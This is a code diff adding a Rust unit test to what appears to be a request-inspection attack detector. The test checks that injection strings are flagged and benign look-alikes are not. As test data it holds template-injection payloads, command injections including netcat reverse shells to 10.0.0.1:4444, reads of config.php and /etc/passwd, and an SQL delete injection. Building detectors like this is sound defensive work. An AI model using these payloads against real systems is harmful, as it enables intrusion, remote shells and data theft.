@@ -228,3 +228,50 @@ fn texts_of_documents_in_strings() {
     }
     assert_ne!(class(text("host", "`cat /etc/passwd`")), "");
 }
+
+/// What allowances for honest values have to leave to attacks, and new rules to sentences.
+#[test]
+fn allowances_are_no_holes() {
+    let detectors = Detectors::new();
+    let class = |body: &str| {
+        let body = format!("{{\"id\":{}}}", quoted(body));
+        class(&detectors, "application/json", body.as_bytes())
+    };
+    for (text, class_of) in [
+        ("{[{{_self.env.registerUndefinedFilterCallback('exec')}}]}", "template"),
+        ("x{[ ${\"freemarker.template.utility.Execute\"?new()(\"id\")} ]}", "template"),
+        ("x;{ cat${IFS}config.php; }", "command"),
+        ("x;{ nc ${x} 10.0.0.1 4444 -e /bin/sh; }", "command"),
+        ("x;env != nc 10.0.0.1 4444 -e sh", "command"),
+        ("x && env != cat config.php", "command"),
+        ("x';delete users where id=1--", "sqli"),
+    ] {
+        assert_eq!(class(text), class_of, "{text}");
+    }
+    for text in [
+        "12; Apt #",
+        "2; learn C#",
+        "1; call John #",
+        "TV 55\"; black --",
+        "the customers'; orders #",
+        "5; revert",
+        "the users'; notify all",
+        "\"/README.md\",",
+        "\"/api/v1/users\", \"/api/v1/posts\",",
+        "rtsp://admin:pw@192.168.1.64:554/h264Preview_01_main",
+        "country in ['DE'] || env == 'dev'",
+    ] {
+        assert_eq!(class(text), "", "{text}");
+    }
+    let frame = |name: &str| format!("{{\"frames\":{{\"{name}\":\"http://127.0.0.1:8080/admin\"}}}}");
+    let of_json = |body: &str| {
+        let mut analysis = Analysis::new();
+        analysis.request_body(&detectors, b"application/json", body.as_bytes());
+        analysis.worst(&detectors, Level::Balanced).is_some_and(|worst| worst.blocks(Level::Balanced))
+    };
+    assert!(of_json(&frame("url")));
+    let xforms = "<job xmlns:h=\"http://www.w3.org/1999/xhtml\"><script>echo 1</script></job>";
+    let mut analysis = Analysis::new();
+    analysis.request_body(&detectors, b"application/xml", xforms.as_bytes());
+    assert!(!analysis.worst(&detectors, Level::Balanced).is_some_and(|worst| worst.blocks(Level::Balanced)));
+}
